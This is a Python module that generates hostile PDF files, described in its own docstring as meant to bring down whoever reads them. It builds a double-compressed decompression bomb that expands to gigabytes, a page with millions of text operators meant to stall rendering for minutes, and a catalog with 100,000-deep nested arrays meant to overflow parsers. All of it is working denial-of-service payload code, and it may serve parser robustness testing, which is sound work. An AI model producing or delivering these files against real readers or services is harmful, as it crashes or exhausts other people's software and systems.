"""Documents that are meant to bring down whoever reads them."""

import zlib


def pdf_with(content: bytes, filters: str, catalog: bytes = b"") -> bytes:
    """A PDF of one page with this content stream, and with more in its catalog."""
    objects = [
        b"<</Type/Catalog/Pages 2 0 R%s>>" % catalog,
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Contents 4 0 R/Resources<</Font<</F 5 0 R>>>>>>",
        b"<</Length %d/Filter[%s]>>stream\n%s\nendstream" % (len(content), filters.encode(), content),
        b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
    ]
    pdf, places = b"%PDF-1.4\n", []
    for number, thing in enumerate(objects, start=1):
        places.append(len(pdf))
        pdf += b"%d 0 obj%s endobj\n" % (number, thing)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    end = b"xref\n0 6\n0000000000 65535 f \n%strailer<</Size 6/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n"
    return pdf + end % (table, len(pdf))


def expanding(gigabytes: int = 4) -> bytes:
    """A PDF whose page expands to so many gigabytes, of a few kilobytes itself."""
    packer = zlib.compressobj(9)
    start, block = packer.compress(b"") + packer.flush(zlib.Z_FULL_FLUSH), b""
    block += packer.compress(b" " * (1 << 24)) + packer.flush(zlib.Z_FULL_FLUSH)
    return pdf_with(zlib.compress(start + block * (gigabytes << 6) + packer.flush(), 9), "/FlateDecode/FlateDecode")


def endless(letters: int = 3_000_000) -> bytes:
    """A PDF with so many letters on its page that reading them takes minutes, of a few kilobytes itself."""
    content = b"BT /F 12 Tf 72 720 Td " + b"(letter) Tj 1 0 Td " * (letters // 6) + b"ET"
    return pdf_with(zlib.compress(content, 9), "/FlateDecode")


def nested(depth: int = 100_000) -> bytes:
    """A PDF with lists in lists in lists."""
    return pdf_with(b"", "", b"/Lists" + b"[" * depth + b"]" * depth)
